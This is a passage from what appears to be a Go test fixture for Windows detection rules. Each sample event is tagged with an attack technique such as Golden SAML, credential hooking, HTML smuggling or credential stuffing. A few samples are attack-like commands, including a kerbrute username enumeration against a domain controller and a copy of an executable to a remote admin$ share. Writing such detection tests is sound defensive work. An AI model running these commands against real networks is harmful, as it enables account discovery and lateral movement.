				"CommandLine": "C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\KeePassXC\\keepassxc-proxy.exe\" chrome-extension://oboonakemofpalcgghocfoadofidjkkk/ --parent-window=0 < \\\\.\\pipe\\chrome.nativeMessaging.in.1 > \\\\.\\pipe\\chrome.nativeMessaging.out.1",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
			},
		},
		ruleSample{
			ID:      "011d9d59-2112-44a6-b06f-12edc3035e27", // Script Writes Extra Window Memory of Another Window
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$h=[W]::FindWindow($null,\"Untitled - Notepad\"); [W]::SetWindowLongPtr($h,-20,0x80000); [W]::SetLayeredWindowAttributes($h,0,200,2)",
			},
		},
		ruleSample{
			ID:      "899c4c3a-6834-4b10-aee8-daae5f949b71", // Script Abuses a List-View Control to Run Code (ListPlanting)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$lv=[W]::FindWindowEx($parent,0,\"SysListView32\",$null); $count=[W]::SendMessage($lv,0x1004,0,0)  # LVM_GETITEMCOUNT",
			},
		},
		ruleSample{
			ID:      "76818ef4-d41f-4f9b-b517-67e9d3a51074", // Windows Installer Runs a Downloading or Encoded Script
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\setup\\configure.ps1\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
			},
		},
		ruleSample{
			ID:      "b45a069a-deed-41e6-a0a6-ef2d9e282c58", // Office Dynamic Data Exchange Re-Enabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Details":      "DWORD (0x00000000)",
				"EventType":    "SetValue",
				"Image":        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AllowDDE",
			},
		},
		ruleSample{
			ID:      "786ad6dc-f7da-4470-87d7-d0f20b152d30", // Script Checks for User Input Before Running
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.Screen]::PrimaryScreen.Bounds",
			},
		},
		ruleSample{
			ID:      "d9675785-c3af-41cf-979e-78793451d626", // HTTP Request Sent With a Host Header Different From Its URL (Domain Fronting)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "curl.exe -H \"Accept: application/json\" https://api.contoso.com/health",
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "4540cfeb-4889-4251-883e-1f79b72f8bb3", // Mailboxes Searched Remotely Through Exchange Web Services
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select-Object DisplayName, ItemCount",
			},
		},
		ruleSample{
			ID:      "9bf9590e-1d85-4a81-b43f-f4710a287064", // Bandwidth-Sharing (Proxyware) Client Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" https://www.honeygain.com/",
				"Image":       "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "06214f3f-541b-4683-9a3e-ef88000e273f", // User MFA Settings Changed With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-MgUserAuthenticationMethod -UserId cfo@contoso.com | Select-Object Id",
			},
		},
		ruleSample{
			ID:      "11fbfb27-ed75-4b6b-a6bf-8b1bf5d5876a", // Script Reads or Rewrites the KernelCallbackTable of a Process
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$pbi = Get-ProcessBasicInformation -Id $pid; $pbi.PebBaseAddress",
			},
		},
		ruleSample{
			ID:      "aacad6e0-587b-4f99-824a-9d231fd5912a", // Browser Saves an Executable or Container Built in the Page (HTML Smuggling)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
			Fields: map[string]string{
				"Contents":       "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://www.google.com/  HostUrl=https://dl.google.com/chrome/install/ChromeSetup.exe  ",
				"Image":          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"TargetFilename": "C:\\Users\\bob\\Downloads\\ChromeSetup.exe:Zone.Identifier",
			},
		},
		ruleSample{
			ID:      "5fdd29ec-1dd6-4d1f-8884-0efd26eda2fc", // Credential API Hooking Tool Run (NetRipper)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "netsh.exe trace start capture=yes report=disabled",
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "929b6a03-9ad7-48cb-8e77-2c5d8d1641e4", // Lua Interpreter Runs Inline Code That Starts Commands
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "lua54.exe -e \"print(_VERSION)\"",
				"Image":       "C:\\Tools\\lua\\lua54.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "c3b2b218-8819-4976-a70d-c392643255e0", // SAML Token Forged With a Stolen Signing Certificate (Golden SAML)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-AdfsCertificate -CertificateType Token-Signing | Select-Object Thumbprint, IsPrimary",
			},
		},
		ruleSample{
			ID:      "f13c1e16-2f11-4bc8-98f4-cdb37785ca83", // Script Checks Whether a Debugger Is Attached
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-PSDebug -Trace 1; Get-PSBreakpoint | Remove-PSBreakpoint",
			},
		},
		ruleSample{
			ID:      "2c916041-7708-4889-8f1f-e0611c4c7ab6", // Script Joins an Image and an Archive or Program Into One File
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$b = [IO.File]::ReadAllBytes(\"C:\\Web\\logo.png\"); $hash = (Get-FileHash C:\\Web\\logo.png).Hash; Set-Content C:\\Web\\logo.sha256 $hash",
			},
		},
		ruleSample{
			ID:      "678d7f7e-1244-4106-bdb6-d984d2e512b7", // Windows Mail Data Store Deleted or Tampered With
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\" -Recurse | Measure-Object -Property Length -Sum",
			},
		},
		ruleSample{
			ID:      "62b1e675-706c-41b9-8068-caf4b820a8d5", // Script Archives Files Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Compress-Archive -Path C:\\Projects\\site\\* -DestinationPath D:\\Releases\\site-1.4.zip",
			},
		},
		ruleSample{
			ID:      "bbea3565-3d87-439e-a6fd-caafa6d2e762", // Authentication Coercion or NTLM Downgrade Run From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Service Spooler | Stop-Service -Force; Set-Service Spooler -StartupType Disabled",
			},
		},
		ruleSample{
			ID:      "3dc1bdd8-f305-4ec0-bb99-797015a94243", // Hyper-V Virtual Machine Created and Started by a Script
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-VM | Where-Object State -eq Running | Select-Object Name, Uptime",
			},
		},
		ruleSample{
			ID:      "7e4866e6-99ac-4753-9f06-9eea80e31e81", // Configuration Manager Used to Run Code on Clients (SharpSCCM, CM Scripts)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "C:\\Windows\\CCM\\CcmExec.exe",
				"Image":       "C:\\Windows\\CCM\\CcmExec.exe",
				"ParentImage": "C:\\Windows\\System32\\services.exe",
			},
		},
		ruleSample{
			ID:      "80c457fb-32e5-43ff-a585-c1bfa9fc634f", // Executable Named Like a PowerShell Cmdlet Written to WindowsApps
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\svchost.exe",
				"TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\WindowsApps\\python3.exe",
			},
		},
		ruleSample{
			ID:      "2f522963-e0c6-4b34-a134-7b19681a7638", // Kerbrute Tries a List of Username and Password Pairs (Credential Stuffing)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "kerbrute.exe userenum --dc dc01.corp.local -d corp.local users.txt",
				"Image":       "C:\\Users\\bob\\Desktop\\kerbrute.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "5231e513-cf03-4a60-96c5-264e87c7912f", // Application SQLite Database Dumped With sqlite3
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "sqlite3.exe D:\\dev\\app\\test.db \".tables\"",
				"Image":       "C:\\Tools\\sqlite3.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "0541d0eb-b016-4bc2-9919-885100fc216a", // Archive Copied to a Share on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy \\\\fs01\\installers\\tool.zip C:\\Temp\\tool.zip",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "0541d0eb-b016-4bc2-9919-885100fc216a", // Archive Copied to a Share on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy C:\\build\\svc.exe \\\\ws03\\admin$\\svc.exe",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7012e904-0ff5-4e3f-a4f1-e258a7bb4c25", // Wi-Fi Profile Added From a File or Connection Forced From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "netsh.exe wlan show interfaces",
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "2ca6b724-ea9d-491b-adea-709aa2e7fdc5", // Office Application Resolves a Code-Hosting, Paste or Tunnel Domain
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
				"QueryName": "officeclient.microsoft.com",
			},
		},
		ruleSample{
			ID:      "b8edb063-9968-4d92-a7d8-a5cdcb6f8702", // Mining Pool Domain Resolved
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Windows\\System32\\svchost.exe",
				"QueryName": "settings-win.data.microsoft.com",
			},
		},
		ruleSample{
			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit -Command \"Set-Location C:\\Projects\\#2026\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c start iexplore https://intranet.contoso.local/#/home",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "c1fa0f5a-8d6a-4593-ab3f-8ce8ffc872c1", // Code Signature Copied From a Signed Program (SigThief, MetaTwin)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "signtool.exe verify /pa /v C:\\build\\app.exe",
				"Image":       "C:\\Program Files (x86)\\Windows Kits\\10\\bin\\x64\\signtool.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "d71f0fc3-d2ed-46ba-9598-bc30cd4ea74e", // Code Signature Copied Onto Another Executable From PowerShell (MetaTwin)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-AuthenticodeSignature C:\\Users\\Public\\payload.exe | Format-List Status, StatusMessage",
			},
		},
		ruleSample{
			ID:      "40da43c2-b636-405e-bf13-2beb2dfdb000", // ARP Spoofing Tool Run
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "arp.exe -a",
				"Image":       "C:\\Windows\\System32\\ARP.EXE",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "1183c25b-641f-4ad7-b7ce-1ff648bc60f9", // DHCP or DHCPv6 Spoofing Tool Run (mitm6, Inveigh DHCPv6)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "ipconfig.exe /renew6",
				"Image":       "C:\\Windows\\System32\\ipconfig.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f897a909-86d9-4dc5-abc3-d6cc7f7d4aea", // Competing Cryptocurrency Miners Killed
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "taskkill.exe /f /im chrome.exe",
				"Image":       "C:\\Windows\\System32\\taskkill.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
	)
}
